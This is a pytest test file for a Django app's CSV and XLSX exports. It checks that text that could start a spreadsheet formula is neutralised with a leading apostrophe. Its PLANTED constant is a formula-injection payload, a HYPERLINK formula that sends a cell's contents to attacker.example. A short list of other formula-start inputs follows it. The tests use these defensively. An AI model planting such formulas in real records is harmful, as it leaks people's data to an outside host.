"""No file the system writes lets a spreadsheet run a formula planted in a record."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.test import Client
from openpyxl import load_workbook

from cooperation.models import ReportJob
from cooperation.spreadsheets import Sheet, csv_text, neutralised, workbook_bytes
from cooperation.tests.factories import CooperationFieldFactory
from dispatch.choices import DeploymentStatus
from dispatch.tests.factories import DeploymentFactory, ExpertFactory
from programs.tests.factories import ProjectFactory
from reports.tasks import build_report_pack
from trainees.tests.factories import TraineeFactory

PLANTED = '=HYPERLINK("http://attacker.example/?"&L2,"details")'
DANGEROUS_STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1"]


def neutral(text: str) -> bool:
    """What a spreadsheet program reads as text, never as the start of a formula."""
    return not text.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"))


# --- the writer ------------------------------------------------------------------------


@pytest.mark.parametrize("text", DANGEROUS_STARTS)
def test_text_that_starts_a_formula_gets_an_apostrophe(text):
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("text", ["Policy Advisor", "Jakarta", "", "a=b", "カンボジア"])
def test_ordinary_text_is_unchanged(text):
    assert neutralised(text) == text


def test_csv_neutralises_text_and_keeps_numbers():
    text = csv_text([["name", "count"], [PLANTED, -3], ["-7", Decimal("2.5")]], bom=False)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["'" + PLANTED, "-3"]
    assert rows[2] == ["'-7", "2.5"]


def test_a_numeric_column_keeps_numbers_that_arrive_as_text():
    text = csv_text([["-7", "-7"]], numeric_columns=[False, True], bom=False)
    assert list(csv.reader(io.StringIO(text))) == [["'-7", "-7"]]


def test_xlsx_stores_text_as_strings_and_numbers_and_dates_typed():
    sheet = Sheet(title="t", numeric_columns=[False, True, True, False])
    sheet.append(["name", "count", "amount", "born"], bold=True)
    sheet.append([PLANTED, 4, "12", date(1980, 5, 1)])
    sheet.append(["=1+1", -2, Decimal("3.5"), None])
    cells = list(load_workbook(io.BytesIO(workbook_bytes([sheet])))["t"].iter_rows(min_row=2))
    (name, count, amount, born), (formula, negative, decimal, empty) = cells
    assert (name.data_type, name.value) == ("s", "'" + PLANTED)
    assert (formula.data_type, formula.value) == ("s", "'=1+1")
    assert (count.data_type, count.value) == ("n", 4)
    assert (amount.data_type, amount.value) == ("n", 12)
    assert (negative.data_type, negative.value) == ("n", -2)
    assert (decimal.data_type, decimal.value) == ("n", 3.5)
    assert born.is_date and born.value.date() == date(1980, 5, 1)
    assert empty.value in (None, "")


# --- every export path -----------------------------------------------------------------


def _staff_export(staff_user, changelist: str, records) -> list[dict]:
    client = Client()
    client.force_login(staff_user)
    response = client.post(
        changelist, {"action": "export_personal_data", "_selected_action": [record.pk for record in records]}
    )
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


@pytest.mark.django_db
def test_the_trainee_export_with_personal_data_neutralises_names(staff_user):
    trainee = TraineeFactory(family_name=PLANTED, given_name="@cmd", phone="+81 3 1234 5678")
    [row] = _staff_export(staff_user, "/admin/trainees/trainee/", [trainee])
    assert row["family_name"] == "'" + PLANTED
    assert row["given_name"] == "'@cmd"
    assert row["phone"] == "'+81 3 1234 5678"
    assert row["id"] == str(trainee.pk)
    assert all(neutral(value) for value in row.values())


@pytest.mark.django_db
def test_the_expert_export_with_personal_data_neutralises_notes(staff_user):
    expert = ExpertFactory(family_name="Tanaka", medical_notes="-2+3")
    [row] = _staff_export(staff_user, "/admin/dispatch/expert/", [expert])
    assert row["family_name"] == "Tanaka"
    assert row["medical_notes"] == "'-2+3"


@pytest.fixture
def planted_field(db):
    """An expert dispatched in fiscal 2012 on a project whose field's name is a formula."""
    field = CooperationFieldFactory(name=PLANTED)
    project = ProjectFactory()
    project.fields.add(field)
    DeploymentFactory(
        project=project,
        planned_start=date(2012, 6, 1),
        planned_end=date(2012, 9, 30),
        actual_start=date(2012, 6, 1),
        actual_end=date(2012, 9, 30),
        status=DeploymentStatus.RETURNED,
    )
    return field


def _csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8").lstrip("\ufeff"))) for cell in row]


def _xlsx_cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _assert_planted_is_text_in_xlsx(content: bytes):
    cells = _xlsx_cells(content)
    assert "'" + PLANTED in [cell.value for cell in cells]
    assert all(cell.data_type != "f" for cell in cells)
    assert all(neutral(cell.value) for cell in cells if isinstance(cell.value, str))
    # The figures are still numbers a manager can add up.
    assert any(cell.data_type == "n" for cell in cells)


@pytest.mark.django_db
@pytest.mark.parametrize("query", ["format=csv", "table=experts_by_field"])
def test_manager_csv_downloads_neutralise_a_planted_field_name(client, manager_user, planted_field, query):
    client.force_login(manager_user)
    response = client.get(f"/dashboard/download/?kind=fiscal_year&value=2012&{query}")
    assert response.status_code == 200
    cells = _csv_cells(response.content)
    assert "'" + PLANTED in cells
    assert PLANTED not in cells
    assert all(neutral(cell) for cell in cells)


@pytest.mark.django_db
def test_the_manager_xlsx_download_stores_a_planted_field_name_as_text(client, manager_user, planted_field):
    client.force_login(manager_user)
    response = client.get("/dashboard/download/?kind=fiscal_year&value=2012&format=xlsx")
    assert response.status_code == 200
    _assert_planted_is_text_in_xlsx(response.content)


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_statistics_packs_neutralise_a_planted_field_name(manager_user, planted_field, file_format):
    job = ReportJob.objects.create(
        requested_by=manager_user,
        parameters={"first": 2011, "last": 2012, "fiscal": True, "format": file_format},
        filename=f"statistics-FY2011-FY2012.{file_format}",
    )
    build_report_pack(job.pk)
    job.refresh_from_db()
    assert job.status == ReportJob.Status.DONE
    content = bytes(job.content)
    if file_format == "xlsx":
        _assert_planted_is_text_in_xlsx(content)
    else:
        cells = _csv_cells(content)
        assert "'" + PLANTED in cells
        assert all(neutral(cell) for cell in cells)
